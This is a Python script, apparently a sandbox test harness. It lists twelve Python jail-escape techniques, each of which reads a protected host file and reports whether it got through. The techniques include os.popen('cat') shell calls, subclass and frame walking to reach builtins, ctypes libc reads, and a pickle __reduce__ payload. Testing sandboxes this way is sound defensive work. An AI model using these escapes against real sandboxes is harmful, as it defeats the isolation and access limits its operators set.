# SPDX-License-Identifier: Apache-2.0
"""Y6: the ways out of language-level filters, as plain code. Each reads a file and runs a command.

usage: y6_pyjail.py SECRET-FILE: a file of the host that no cell may see.
"""

import datetime
import json
import os.path
import random
import sys

secret = sys.argv[1]
WAYS = {}


def way(function):
    WAYS[function.__name__] = function
    return function


@way
def codecs_open():
    return json.codecs.open(secret).read()


@way
def codecs_builtins_exec():
    found = {}
    json.codecs.builtins.exec("import os; text = open(%r).read()" % secret, found)
    return found["text"]


@way
def datetime_sys_modules():
    return datetime.sys.modules["os"].popen(f"cat {secret} 2>&1").read()


@way
def random_os():
    return random._os.popen(f"cat {secret} 2>&1").read()


@way
def path_os():
    fd = os.path.os.open(secret, 0)
    return os.path.os.read(fd, 100).decode()


@way
def subclasses():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__["popen"](f"cat {secret} 2>&1").read()
    return "no way"


@way
def stub_globals():
    def blocked(*words):
        raise ImportError(words)

    return blocked.__globals__["__builtins__"].open(secret).read()


@way
def format_string():
    found = "{0.__class__.__init__.__globals__}".format(WAYS_HOLDER)
    return open(secret).read() if "__builtins__" in found else "no way"


@way
def frame_walk():
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        while frame.f_back:
            frame = frame.f_back
        return frame.f_builtins["open"](secret).read()


@way
def settrace():
    sys.settrace(None)
    return open(secret).read()


@way
def ctypes_call():
    import ctypes

    libc = ctypes.CDLL(None)
    room = ctypes.create_string_buffer(100)
    fd = libc.open(secret.encode(), 0)
    n = libc.read(fd, room, 100)
    return room.raw[:n].decode() if n > 0 else "no way"


@way
def pickle_reduce():
    import pickle

    class Order:
        def __reduce__(self):
            return open, (secret,)

    return pickle.loads(pickle.dumps(Order())).read()


class Holder:
    def __init__(self):
        pass


WAYS_HOLDER = Holder()

for name, function in WAYS.items():
    try:
        answer = "read" if "TOP SECRET" in function() else "nothing"
    except Exception as error:  # for any reason: it got nothing
        answer = type(error).__name__
    print(f"{name}={answer}", flush=True)
